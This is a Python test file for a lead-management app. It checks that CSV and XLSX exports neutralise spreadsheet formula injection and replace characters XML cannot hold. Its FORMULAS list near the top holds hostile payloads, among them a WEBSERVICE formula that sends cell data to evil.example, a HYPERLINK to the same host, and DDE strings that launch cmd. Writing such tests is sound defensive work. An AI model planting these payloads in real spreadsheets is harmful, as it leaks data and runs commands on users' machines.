"""Every workbook and CSV goes through one cell writer (``reports.cells``): text that a
spreadsheet would run as a formula stays text, and characters a workbook can't hold are replaced
instead of failing the export. Checked on the writer itself and on the three exports (the lead
workbook, the list's XLSX and CSV), with hostile values stored as other channels could store
them (SQL), read back from the files' own XML."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import psycopg
import pytest
from openpyxl import Workbook, load_workbook

from geo.models import LeadStatus
from reports.cells import REPLACEMENT, clean_text, csv_field, looks_like_formula, xlsx_cell
from tests.dossier_factory import seed_site
from tests.lead_fixtures import sync_url

# OWASP's list of formula starts, and one of each payload the probe sent.
FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Every character XML 1.0 can't hold, plus DEL and the C1 controls (invisible).
UNWRITABLE = (
    [chr(c) for c in range(0x00, 0x20) if chr(c) not in "\t\n\r"]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + ["\ud800", "\udfff", "\ufffe", "\uffff"]
)


def _workbook_xml(data: bytes) -> str:
    """Every worksheet's XML of a workbook, as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _xml_legal(text: str) -> bool:
    """XML 1.0's Char production, written out independently of the writer's pattern."""
    return all(
        c in "\t\n\r"
        or 0x20 <= ord(c) <= 0xD7FF
        or 0xE000 <= ord(c) <= 0xFFFD
        or 0x10000 <= ord(c) <= 0x10FFFF
        for c in text
    )


# --- the writer ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_quoted_in_csv(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Alpha", " =1+1", "Les Grandes Terres", "a=b", "", "'=déjà quoté", "é=1"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert csv_field(text) == text


def test_numbers_and_dates_are_not_text() -> None:
    # A negative number is a number, not a formula start.
    assert csv_field(-5) == "-5" and csv_field(-2.5) == "-2.5"
    assert csv_field(Decimal("-1.50")) == "-1.5" and csv_field(None) == ""
    paris = timezone(timedelta(hours=1))
    assert csv_field(datetime(2026, 1, 2, 13, 0, tzinfo=paris)) == "2026-01-02T12:00:00+00:00"
    assert csv_field({"a": "=x"}) == '{"a": "=x"}'  # JSON text starts with '{'


@pytest.mark.parametrize("char", UNWRITABLE, ids=lambda c: f"U+{ord(c):04X}")
def test_unwritable_characters_are_replaced(char: str) -> None:
    text = f"ctrl{char}char"
    assert clean_text(text) == f"ctrl{REPLACEMENT}char"
    assert csv_field(text) == f"ctrl{REPLACEMENT}char"
    # A replaced character can't hide a formula start behind it, nor make one.
    assert csv_field(char + "=1") == REPLACEMENT + "=1"


def test_line_breaks_and_tabs_inside_text_are_kept() -> None:
    assert clean_text("ligne 1\nligne 2\r\n\tretrait") == "ligne 1\nligne 2\r\n\tretrait"


def test_workbook_cells() -> None:
    """Formula-looking text is a string cell marked quotePrefix, unchanged; unwritable
    characters are replaced; numbers and dates stay typed. Read back from the saved file."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    stamp = datetime(2026, 12, 4, 22, 10, tzinfo=UTC)
    values = [*FORMULAS, "ctrl\x01char", "\x00=1+1", "plain", 42, -2.5, True, stamp]
    ws.append([xlsx_cell(ws, v) for v in values])
    buf = io.BytesIO()
    wb.save(buf)  # openpyxl raised IllegalCharacterError here on "ctrl\x01char"
    data = buf.getvalue()
    xml = _workbook_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert _xml_legal(xml)
    row = next(load_workbook(io.BytesIO(data))["t"].iter_rows())
    for cell, text in zip(row, FORMULAS, strict=False):
        # The XML normalises a lone CR in text to LF on reading; the cell is text all the same.
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == text.replace("\r", "\n") or cell.value == text
    rest = row[len(FORMULAS) :]
    assert rest[0].value == f"ctrl{REPLACEMENT}char" and not rest[0].quotePrefix
    assert rest[1].value == f"{REPLACEMENT}=1+1" and not rest[1].quotePrefix
    assert rest[2].value == "plain" and not rest[2].quotePrefix
    assert [c.value for c in rest[3:6]] == [42, -2.5, True]
    assert rest[6].value == stamp.replace(tzinfo=None) and rest[6].is_date


# --- the exports --------------------------------------------------------------------------


@pytest.fixture(scope="module")
async def hostile(client, state, db_url, people):
    """A CLIENT_READY lead whose name, sourcing notes and comments are hostile, stored as an
    import or an older version of the API could have (control characters included), and a
    second lead with control characters in its name."""
    async with state.sessions() as s:
        lead_id = await seed_site(
            s, state.cipher, enriched=False, n_parcels=2, status=LeadStatus.CLIENT_READY
        )
    r = await client.post(
        f"/api/leads/{lead_id}/comments", json={"body": FORMULAS[1]}, headers=people["manager"][1]
    )
    assert r.status_code == 201, r.text
    with psycopg.connect(sync_url(db_url), autocommit=True) as conn:
        conn.execute("UPDATE leads SET name = %s WHERE id = %s", (FORMULAS[0], lead_id))
        conn.execute(
            "UPDATE lead_sourcing SET source_notes = %s WHERE lead_id = %s", ("@SUM(1+1)", lead_id)
        )
        # A comment with control characters (psycopg sends them as they are).
        conn.execute(
            "INSERT INTO comments (lead_id, author_id, body) VALUES (%s, NULL, %s)",
            (lead_id, "commentaire\x01\x1fcontrôle"),
        )
    async with state.sessions() as s:
        ctrl_id = await seed_site(
            s,
            state.cipher,
            enriched=False,
            n_parcels=2,
            status=LeadStatus.CLIENT_READY,
            name="ctrl\x01char\x7f",
        )
    return lead_id, ctrl_id


def _cells(data: bytes) -> list[tuple[object, str, bool]]:
    wb = load_workbook(io.BytesIO(data))
    return [
        (c.value, c.data_type, bool(c.quotePrefix))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]


@pytest.mark.parametrize("role", ["manager", "sales"])
async def test_lead_workbook_has_no_formula(client, hostile, people, role) -> None:
    lead_id, _ = hostile
    r = await client.get(f"/api/leads/{lead_id}/export.xlsx", headers=people[role][1])
    assert r.status_code == 200, r.text
    xml = _workbook_xml(r.content)
    assert "<f>" not in xml and "<f " not in xml
    cells = _cells(r.content)
    for text in (FORMULAS[0], FORMULAS[1], "@SUM(1+1)"):
        assert (text, "s", True) in cells, text
    assert ("commentaire\ufffd\ufffdcontrôle", "s", False) in cells


@pytest.mark.parametrize("role", ["manager", "sales"])
async def test_lead_workbook_with_control_characters(client, hostile, people, role) -> None:
    """One control character in a name made the workbook a 500 for everyone."""
    _, ctrl_id = hostile
    r = await client.get(f"/api/leads/{ctrl_id}/export.xlsx", headers=people[role][1])
    assert r.status_code == 200, r.text
    assert _xml_legal(_workbook_xml(r.content))
    lead = dict(load_workbook(io.BytesIO(r.content))["Lead"].iter_rows(values_only=True))
    assert lead["name"] == "ctrl\ufffdchar\ufffd"


async def test_list_exports(client, hostile, people) -> None:
    lead_id, ctrl_id = hostile
    h = people["sales"][1]
    r = await client.get("/api/leads/export.csv", params={"sort": "created_at"}, headers=h)
    assert r.status_code == 200, r.text
    rows = {
        int(row["id"]): row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
    }
    assert rows[lead_id]["name"] == "'" + FORMULAS[0]
    assert rows[ctrl_id]["name"] == "ctrl\ufffdchar\ufffd"
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", r.content.decode("utf-8-sig"))
    r = await client.get("/api/leads/export.xlsx", params={"sort": "created_at"}, headers=h)
    assert r.status_code == 200, r.text  # was a 500 (IllegalCharacterError)
    xml = _workbook_xml(r.content)
    assert "<f>" not in xml and _xml_legal(xml)
    cells = _cells(r.content)
    assert (FORMULAS[0], "s", True) in cells
    assert ("ctrl\ufffdchar\ufffd", "s", False) in cells


async def test_typed_values_stay_typed(client, hostile, people) -> None:
    """The writer changes no typed value: ids and dates of the list export stay typed."""
    lead_id, _ = hostile
    r = await client.get("/api/leads/export.xlsx", headers=people["admin"][1])
    ws = load_workbook(io.BytesIO(r.content))["Leads"]  # French headers (the workbook's dialect)
    header = [c.value for c in ws[1]]
    ids = [row[header.index("N°")] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert lead_id in ids and all(isinstance(i, int) for i in ids)
    created = [row[header.index("Créé le")] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(c, datetime) for c in created)
